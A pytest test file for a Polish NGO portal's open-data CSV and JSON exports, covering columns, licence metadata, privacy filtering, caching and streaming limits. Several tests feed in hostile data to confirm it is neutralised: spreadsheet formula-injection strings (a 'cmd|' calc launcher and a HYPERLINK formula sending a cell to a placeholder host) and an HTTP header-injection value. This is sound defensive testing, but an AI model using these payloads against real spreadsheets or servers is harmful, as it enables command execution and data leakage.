"""Open data: what is in the files, what is not, and what readers make of them."""

import csv
import io
import json
import tracemalloc
from datetime import date

import orjson
import pytest
import time_machine
from django.test import Client
from jsonschema import Draft202012Validator, FormatChecker

from cms.api.problems import ProblemError
from cms.api.schema import openapi_document
from cms.api.views.exports import MOST_AT_ONCE, Sending
from cms.exports.datasets import DATASETS, EVENTS, ORGANIZATIONS
from cms.exports.files import cell
from cms.models import CentreSettings, Document
from tests.cms.api.answers import add_rows, ask
from tests.cms.api.content import add_rich_content
from tests.factories import (
    EventFactory,
    LocalityFactory,
    OrganizationFactory,
    PlaceFactory,
    make_private,
)

pytestmark = pytest.mark.django_db
ORGANIZATIONS_CSV = "/export/organizations.csv"
FILES = [f"/export/{dataset.name}.{form}" for dataset in DATASETS for form in ("csv", "json")]
PERSONAL = ("email", "phone", "address", "contact", "staff_notes", "summary", "body", "online_url")


def begin(path: str, **headers: str):
    """Return an answer whose body is still to be read."""
    response = Client().get(f"/api/v1{path}", headers=headers)
    assert response.status_code == 200
    return response


def fetch(path: str, **headers: str):
    """Return an answer that was read to its end, as a server does."""
    response = begin(path, **headers)
    if response.streaming:
        response.streaming_content = [b"".join(response.streaming_content)]
    return response


def table(path: str = ORGANIZATIONS_CSV) -> list[dict[str, str]]:
    """Return the rows of a CSV as a reader that follows RFC 4180 has them."""
    text = fetch(path).getvalue().decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))


def test_organizations_are_a_table_with_one_row_each():
    add_rich_content()
    rows = table()
    assert [row["slug"] for row in rows] == ["laweczka", "wrzeciono", "zielony-zegar"]
    full = rows[2]
    assert full["title"] == "Stowarzyszenie „Zielony Zegar” (przykład)"
    assert full["krs"] == "0009999001"
    assert full["locality"] == "belk"
    assert full["locality_name"] == "Bełk"
    assert full["spheres"] == "1a|13"
    assert full["seeks_volunteers"] == "true"
    assert full["verified_at"] == "2018-03-20"
    assert full["website"] == "https://organizacja.example.org/"
    assert full["url"] == "http://testserver/organizacje/zielony-zegar/"
    assert rows[1]["website"] == rows[1]["krs"] == rows[1]["locality"] == ""


def test_events_are_a_table_in_the_order_of_their_dates():
    add_rich_content()
    rows = table("/export/events.csv")
    assert [row["start_date"] for row in rows] == sorted(row["start_date"] for row in rows)
    event = rows[0]
    assert event["slug"] == "rodo-dla-ngo"
    assert event["start_time"] == "17:00"
    assert event["place"] == "Sala konferencyjna"
    assert event["locality"] == "belk"
    assert event["project"] == "Razem Możemy Więcej"
    assert event["organizers"].count("|") == event["organizer_ids"].count("|") == 2
    assert event["topics"] == "prawo|rodo"
    assert rows[1]["start_time"] == ""  # not 00:00


def test_json_says_the_same_with_source_licence_and_times():
    add_rich_content()
    with time_machine.travel("2030-03-16T09:00:10+00:00", tick=False):
        found = json.loads(fetch("/export/organizations.json").getvalue())
    assert found["source"] == {
        "name": "Centrum Organizacji Pozarządowych",
        "url": "http://testserver/",
    }
    assert found["licence"] == {
        "name": "CC BY 4.0",
        "url": "https://creativecommons.org/licenses/by/4.0/",
    }
    assert found["retrieved_at"] == "2030-03-16T09:00:10+00:00"
    assert found["modified_at"] < found["retrieved_at"]
    assert found["title"].endswith("Centrum Organizacji Pozarządowych")
    assert [row["slug"] for row in found["results"]] == ["laweczka", "wrzeciono", "zielony-zegar"]
    assert found["results"][2]["spheres"] == ["1a", "13"]
    assert found["results"][2]["seeks_volunteers"] is True
    assert found["results"][1]["website"] is None


def test_metadata_beside_the_csv_describes_each_column_in_order():
    add_rich_content()
    link = fetch(ORGANIZATIONS_CSV).headers["Link"]
    assert '<http://testserver/api/v1/export/organizations.csv-metadata.json>; rel="desc' in link
    assert '<https://creativecommons.org/licenses/by/4.0/>; rel="license"' in link
    response = fetch("/export/organizations.csv-metadata.json")
    assert response.headers["Content-Type"] == "application/csvm+json"
    metadata = response.json()
    assert metadata["url"] == "organizations.csv"
    assert metadata["dc:license"] == {"@id": "https://creativecommons.org/licenses/by/4.0/"}
    assert metadata["dc:source"] == {"@id": "http://testserver/"}
    assert metadata["prov:generatedAtTime"]["@type"] == "xsd:dateTime"
    columns = metadata["tableSchema"]["columns"]
    assert [column["name"] for column in columns] == list(table()[0])
    described = {column["name"]: column for column in columns}
    assert described["spheres"]["separator"] == "|"
    assert described["seeks_volunteers"]["datatype"] == "boolean"
    assert described["website"]["dc:description"] == "Strona internetowa organizacji."
    for row in table():
        for column in columns:
            assert row[column["name"]] or not column["required"], column["name"]


def test_licence_is_what_the_staff_chose_and_makes_the_file_new():
    before = fetch(ORGANIZATIONS_CSV).headers["ETag"]
    centre = CentreSettings.load()
    centre.licence_name, centre.licence_url = "CC0 1.0", "https://example.org/ł>\r\nX-Evil: 1"
    centre.save()
    assert json.loads(fetch("/export/events.json").getvalue())["licence"]["name"] == "CC0 1.0"
    response = fetch(ORGANIZATIONS_CSV)
    assert response.headers["ETag"] != before
    assert "X-Evil" not in response.headers
    assert response.headers["Link"].isascii()


# --- What is not in it ---------------------------------------------------------------------------


def test_personal_data_is_in_no_file_even_where_it_is_public():
    contact = {"email": "biuro@sekret.example", "phone": "32 999 88 77", "address": "Sekretna 1"}
    OrganizationFactory(**contact, summary="Sekretny opis", body=[("heading", "Sekret")])
    place = PlaceFactory(name="Świetlica", address="ul. Jawna 1")
    EventFactory(moved_online=True, summary="Sekretny opis", place=place)
    assert ask("/organizations/")["results"][0]["email"] == "biuro@sekret.example"
    for path in FILES:
        said = fetch(path).getvalue().decode().lower()
        for word in ("sekret", "32 999", "meet.example.org"):
            assert word not in said, path
    for dataset in DATASETS:
        assert not {column.name for column in dataset.columns} & set(PERSONAL)


def test_only_what_is_live_and_public_is_exported():
    secret = {"title": "Szyszkownik"}
    OrganizationFactory(title="Jawna (przykład)")
    OrganizationFactory(**secret, draft=True)
    OrganizationFactory(**secret).unpublish()
    make_private(OrganizationFactory(**secret))
    expiring = OrganizationFactory(**secret)
    Document.objects.filter(page_id=expiring.pk).update(expires_at="2018-01-01T00:00:00Z")
    for path in ("/export/organizations.csv", "/export/organizations.json"):
        said = fetch(path).getvalue().decode()
        assert "Jawna" in said
        assert "Szyszkownik" not in said


def test_withdrawn_while_the_file_is_being_written_is_left_out(monkeypatch):
    monkeypatch.setattr("cms.exports.files.BATCH", 1)
    OrganizationFactory(title="Aaa (przykład)")
    withdrawn = OrganizationFactory(title="Bbb (przykład)")
    parts = iter(begin(ORGANIZATIONS_CSV).streaming_content)
    read = [next(parts), next(parts)]
    withdrawn.unpublish()
    read += parts
    assert "Aaa" in b"".join(read).decode()
    assert "Bbb" not in b"".join(read).decode()


@pytest.mark.parametrize(("is_demo", "count"), [(False, 1), (True, 2)])
def test_samples_are_exported_in_a_demo_only(is_demo, count, settings):
    settings.IS_DEMO = is_demo
    OrganizationFactory()
    OrganizationFactory(is_sample=True)
    assert len(table()) == count
    assert len(json.loads(fetch("/export/organizations.json").getvalue())["results"]) == count


# --- Spreadsheets and readers --------------------------------------------------------------------


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n"])
def test_text_that_a_spreadsheet_would_run_is_disarmed(start):
    assert cell(f"{start}cmd|' /C calc'!A0").startswith(f"'{start}")
    assert cell([f"{start}a", "b"]).startswith(f"'{start}")


@pytest.mark.parametrize("text", ["a=1", "Zielony Zegar", "", "0009999001", "'=1"])
def test_other_text_stays_as_it_is(text):
    assert cell(text) == text


def test_formula_in_a_name_is_disarmed_in_the_csv_and_itself_in_the_json():
    name = '=HYPERLINK("http://zly.example/?"&A1;"Kliknij")'
    OrganizationFactory(title=name, short_name="@SUM(1)", locality=LocalityFactory(name="+48"))
    row = table()[0]
    assert row["title"] == f"'{name}"
    assert row["short_name"] == "'@SUM(1)"
    assert row["locality_name"] == "'+48"
    [result] = json.loads(fetch("/export/organizations.json").getvalue())["results"]
    assert result["title"] == name


def test_quotes_commas_and_line_breaks_survive():
    name = 'A, "B"\r\nC; D'
    OrganizationFactory(short_name=name)
    assert table()[0]["short_name"] == name


def test_file_is_utf8_with_a_mark_and_lines_end_as_the_standard_says():
    OrganizationFactory(title="Żółć (przykład)")
    response = fetch(ORGANIZATIONS_CSV)
    body = response.getvalue()
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8; header=present"
    assert body.startswith(b"\xef\xbb\xbfid,url,slug,title,")
    assert body.endswith(b"\r\n")
    assert body.count(b"\n") == body.count(b"\r\n") == 2


@pytest.mark.parametrize("path", FILES)
def test_file_has_a_name_with_the_day_in_poland(path):
    with time_machine.travel("2030-03-16T23:30:00+00:00", tick=False):
        name = fetch(path).headers["Content-Disposition"]
    dataset, suffix = path.removeprefix("/export/").split(".")
    assert name == f'attachment; filename="{dataset}-2030-03-17.{suffix}"'


# --- Asking again --------------------------------------------------------------------------------


@pytest.mark.parametrize("path", [*FILES, "/export/events.csv-metadata.json"])
def test_file_that_one_has_is_not_sent_again_until_something_changes(path):
    OrganizationFactory()
    first = fetch(path)
    etag = first.headers["ETag"]
    assert first.headers["Cache-Control"] == "public, no-cache"
    again = Client().get(f"/api/v1{path}", headers={"If-None-Match": etag})
    assert again.status_code == 304
    assert again.headers["ETag"] == etag
    assert not again.getvalue() if again.streaming else not again.content
    OrganizationFactory()
    assert fetch(path, **{"If-None-Match": etag}).headers["ETag"] != etag


def test_tag_is_strong_only_where_the_bytes_are_the_same():
    OrganizationFactory()
    with time_machine.travel("2030-03-16T09:00:00+00:00", tick=False):
        first = {path: fetch(path) for path in FILES}
        bodies = {path: response.getvalue() for path, response in first.items()}
    with time_machine.travel("2030-03-16T10:00:00+00:00", tick=False):
        for path in FILES:
            second = fetch(path)
            assert second.headers["ETag"] == first[path].headers["ETag"]
            is_same = second.getvalue() == bodies[path]
            assert is_same is not second.headers["ETag"].startswith("W/"), path


def test_unknown_parameter_is_refused():
    response = Client().get(f"/api/v1{ORGANIZATIONS_CSV}?sep=;")
    assert response.status_code == 400
    assert response.headers["Content-Type"] == "application/problem+json"


# --- Size ----------------------------------------------------------------------------------------


def add_full_rows(count: int) -> None:
    """Turn rows without pages into such that have all an event has."""
    payload = orjson.loads(Document.objects.get(page_id=EventFactory().pk).payload)
    add_rows(count, start=date(2031, 1, 1))
    filler = orjson.dumps(payload | {"body_html": "x" * 4000})
    Document.objects.filter(page=None).update(payload=filler)


def test_queries_are_counted_by_batches(django_assert_num_queries):
    add_full_rows(999)
    with django_assert_num_queries(2 + 1 + 2):  # state, centre; ids; two batches
        assert len(fetch("/export/events.csv").getvalue().splitlines()) == 1001
    etag = fetch("/export/events.csv").headers["ETag"]
    with django_assert_num_queries(2):
        Client().get("/api/v1/export/events.csv", headers={"If-None-Match": etag})
    with django_assert_num_queries(2):
        Client().head("/api/v1/export/events.csv")


@pytest.mark.parametrize("form", ["csv", "json"])
def test_memory_does_not_grow_with_the_file(form):
    add_full_rows(6000)
    tracemalloc.start()
    try:
        size = sum(len(part) for part in begin(f"/export/events.{form}").streaming_content)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert size > 1_000_000
    assert peak < 6000 * 4000 / 2  # all payloads would be 24 MB and more


def test_slow_readers_leave_threads_to_others_and_later_ones_are_told_to_wait():
    OrganizationFactory()
    slow = [begin(path) for path in FILES[:MOST_AT_ONCE]]
    refused = Client().get(f"/api/v1{FILES[2]}")
    assert refused.status_code == 503
    assert refused.headers["Retry-After"] == "30"
    assert refused.json()["type"].endswith("/problems/busy/")
    assert Client().head(f"/api/v1{FILES[2]}").status_code == 200
    assert ask("/organizations/")["results"]
    assert slow[0].getvalue()
    assert fetch(FILES[2]).getvalue()
    assert slow[1].getvalue()


def test_reader_who_goes_away_gives_the_place_back_once():
    sending = [Sending(iter([])) for _ in range(MOST_AT_ONCE)]
    with pytest.raises(ProblemError):
        Sending(iter([]))
    sending[0].close()
    sending[0].close()
    sending[0] = Sending(iter([]))
    with pytest.raises(ProblemError):
        Sending(iter([]))
    for one in sending:
        one.close()


# --- The OpenAPI document ------------------------------------------------------------------------


def test_schema_of_the_json_is_true_and_complete():
    add_rich_content()
    openapi_document.cache_clear()
    paths = orjson.loads(openapi_document())["paths"]
    for dataset in (ORGANIZATIONS, EVENTS):
        operation = paths[f"/api/v1/export/{dataset.name}.json"]["get"]
        content = operation["responses"]["200"]["content"]["application/json"]
        schema = content["schema"]
        schema["properties"]["results"]["items"]["additionalProperties"] = False
        validator = Draft202012Validator(schema, format_checker=FormatChecker())
        answer = json.loads(fetch(f"/export/{dataset.name}.json").getvalue())
        assert answer["results"]
        for instance in (answer, content["examples"]["Example"]["value"]):
            assert [error.message for error in validator.iter_errors(instance)] == []
    described = paths["/api/v1/export/events.csv"]["get"]
    assert set(described["responses"]["200"]["content"]) == {"text/csv"}
